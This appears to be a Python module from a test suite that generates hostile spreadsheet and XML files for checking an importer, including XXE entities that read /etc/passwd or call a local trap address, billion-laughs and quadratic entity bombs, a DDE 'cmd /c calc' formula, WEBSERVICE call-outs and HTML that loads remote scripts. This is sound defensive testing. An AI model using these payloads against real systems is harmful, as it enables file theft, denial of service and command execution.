"""Files that want to do something: fetch, read this machine's files, run, or blow up while being read.

Whatever they try, the rows beside it are what they are, and nothing of the attempt may show: no socket, no
foreign text in a cell, no memory. `TRAP` is where the checker listens.
"""

from __future__ import annotations

import random
from collections.abc import Callable
from dataclasses import replace

from fangpin.bench.hostile.people import HEADINGS, NAME, Line, settlements
from fangpin.bench.hostile.plain import (
    NAME_XLSX,
    as_html,
    as_ods,
    as_xml,
    placed,
)
from fangpin.bench.hostile.truth import Fate, Made, Outcome, counted
from fangpin.bench.hostile.workbooks import HEAD, SHEET, STRINGS, Page, Raw, parts_of, zipped

TRAP = ("127.0.0.1", 18_931)
_URL = f"http://{TRAP[0]}:{TRAP[1]}"
_BILLION = "".join(
    f'<!ENTITY l{depth} "{"&l" + str(depth - 1) + ";" if depth else "哈"}'
    f'{("&l" + str(depth - 1) + ";") * 9 if depth else ""}">'
    for depth in range(10)
)
_DOCTYPES = {
    "file": '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>',
    "http": f'<!DOCTYPE x [<!ENTITY e SYSTEM "{_URL}/e">]>',
    "parameter": f'<!DOCTYPE x [<!ENTITY % p SYSTEM "{_URL}/p"> %p; <!ENTITY e "甲">]>',
    "external": f'<!DOCTYPE x SYSTEM "{_URL}/x.dtd">',
    "billion": f'<!DOCTYPE x [{_BILLION}<!ENTITY e "&l9;">]>',
    "quadratic": f'<!DOCTYPE x [<!ENTITY a "{"哈" * 50_000}"><!ENTITY e "{"&a;" * 2_000}">]>',
}


def entity_in_a_cell(rng: random.Random) -> Made:
    """A name is an entity that stands for a file, an address, or a text of gigabytes."""
    lines, parts = _book(rng)
    kind = rng.choice(sorted(_DOCTYPES))
    target = rng.choice((STRINGS, SHEET, "xl/workbook.xml", "xl/styles.xml"))
    parts[target] = parts[target].replace(HEAD.encode(), (HEAD + _DOCTYPES[kind]).encode())
    if target == STRINGS and kind != "external":
        name = str(lines[0].cells[NAME])
        parts[target] = parts[target].replace(f">{name}<".encode(), b">&e;<")
        lines = [line.but(name=None, fate=Fate.safe) if line.cells[NAME] == name else line for line in lines]
    return Made(zipped(parts), counted(placed(lines), Outcome.either), NAME_XLSX)


def entity_in_another_format(rng: random.Random) -> Made:
    """The same in OpenDocument, in XML called xls."""
    lines = settlements(rng, rng.randint(2, 9))
    before = _DOCTYPES[rng.choice(sorted(_DOCTYPES))]
    lines[0] = lines[0].put(NAME, "甲乙", name=None, fate=Fate.safe)
    made = rng.choice((as_ods, as_xml))(lines, before=before)
    truth = replace(made.truth, outcome=Outcome.either)
    return replace(made, data=made.data.replace("甲乙".encode(), b"&e;"), truth=truth)


def page_that_fetches(rng: random.Random) -> Made:
    """HTML called xls with pictures, frames, scripts and styles from elsewhere."""
    extra = (
        f'<base href="{_URL}/"/><link rel="stylesheet" href="{_URL}/a.css"/><script src="{_URL}/a.js"></script>'
        f'<img src="{_URL}/a.png"/><iframe src="{_URL}/"></iframe><meta http-equiv="refresh" content="0;url={_URL}/"/>'
    )
    return as_html(settlements(rng, rng.randint(2, 9)), extra=extra)


def links_to_other_books(rng: random.Random) -> Made:
    """Formulas that point into other workbooks, with the values that Excel kept of them."""
    lines, parts = _book(rng)
    return _with_formula(rng, lines, "[1]Sheet1!$A$1", parts_more=_external(parts))


def formula_that_runs(rng: random.Random) -> Made:
    """DDE, WEBSERVICE and their like: the value kept with the formula is the cell, and nothing is run."""
    lines, _ = _book(rng)
    formula = rng.choice(
        (
            "cmd|' /c calc'!A0",
            f"WEBSERVICE(&quot;{_URL}/?&quot;&amp;B2)",
            f"HYPERLINK(&quot;{_URL}&quot;,&quot;x&quot;)",
            f"IMAGE(&quot;{_URL}/a.png&quot;)",
            "RTD(&quot;x&quot;,,&quot;y&quot;)",
        )
    )
    return _with_formula(rng, lines, formula, parts_more={})


def macros(rng: random.Random) -> Made:
    """A workbook with a macro project, which nobody runs."""
    lines, parts = _book(rng)
    parts["xl/vbaProject.bin"] = bytes.fromhex("d0cf11e0a1b11ae1") + rng.randbytes(4_000)
    parts["[Content_Types].xml"] = parts["[Content_Types].xml"].replace(
        b"application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml",
        b"application/vnd.ms-excel.sheet.macroEnabled.main+xml",
    )
    return Made(zipped(parts), counted(placed(lines)), NAME_XLSX.replace("xlsx", "xlsm"))


def embedded_object(rng: random.Random) -> Made:
    """An object of another program inside the sheet."""
    lines, parts = _book(rng)
    parts["xl/embeddings/oleObject1.bin"] = bytes.fromhex("d0cf11e0a1b11ae1") + rng.randbytes(3_000)
    parts["xl/activeX/activeX1.xml"] = (
        b"<ax:ocx xmlns:ax='http://schemas.microsoft.com/office/2006/activeX'/>"
    )
    parts["xl/worksheets/_rels/sheet1.xml.rels"] = (
        f'{HEAD}<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship '
        f'Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/oleObject" '
        f'Target="{_URL}/x" TargetMode="External"/></Relationships>'
    ).encode()
    return Made(zipped(parts), counted(placed(lines)), NAME_XLSX)


def deep_nesting(rng: random.Random) -> Made:
    """Elements inside elements, a hundred thousand deep."""
    lines, parts = _book(rng)
    depth = rng.choice((1_000, 100_000))
    # Different names: a part that repeats itself is a bomb, and refused as one.
    open_tags = "".join(f"<a{rng.randrange(10**6)}x>" for _ in range(depth))
    nested = open_tags + open_tags.replace("<", "</").replace("x></", "x></")
    parts[SHEET] = parts[SHEET].replace(b"<sheetData>", nested.encode() + b"<sheetData>")
    return Made(zipped(parts), counted(placed(lines), Outcome.either), NAME_XLSX)


def _external(parts: dict[str, bytes]) -> dict[str, bytes]:
    relation = (
        f'{HEAD}<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship '
        'Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/externalLinkPath" '
        f'Target="{_URL}/other.xlsx" TargetMode="External"/></Relationships>'
    )
    link = (
        f'{HEAD}<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><externalBook '
        'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships" r:id="rId1"/></externalLink>'
    )
    return {
        "xl/externalLinks/externalLink1.xml": link.encode(),
        "xl/externalLinks/_rels/externalLink1.xml.rels": relation.encode(),
    }


def _with_formula(
    rng: random.Random, lines: list[Line], formula: str, *, parts_more: dict[str, bytes]
) -> Made:
    """The workbook with a formula in place of the names and amounts of some rows; its kept value is the true one."""
    rows: list[list[object]] = [list(HEADINGS)]
    for line in lines:
        cells: list[object] = [*line.cells]
        place = rng.choice((NAME, 5, 11))
        kept = cells[place]
        attributes = ' t="str"' if place == NAME else ""
        cells[place] = Raw(attributes, f"<f>{formula}</f><v>{kept}</v>")
        rows.append(cells)
    parts = parts_of(Page(rows)) | parts_more
    return Made(zipped(parts), counted(placed(lines)), NAME_XLSX)


def _book(rng: random.Random) -> tuple[list[Line], dict[str, bytes]]:
    lines = settlements(rng, rng.randint(2, 15))
    return lines, parts_of(Page([tuple(HEADINGS), *(line.cells for line in lines)]))


VARIANTS: tuple[Callable[[random.Random], Made], ...] = (
    entity_in_a_cell,
    formula_that_runs,
    entity_in_another_format,
    macros,
    links_to_other_books,
    embedded_object,
    page_that_fetches,
    deep_nesting,
)
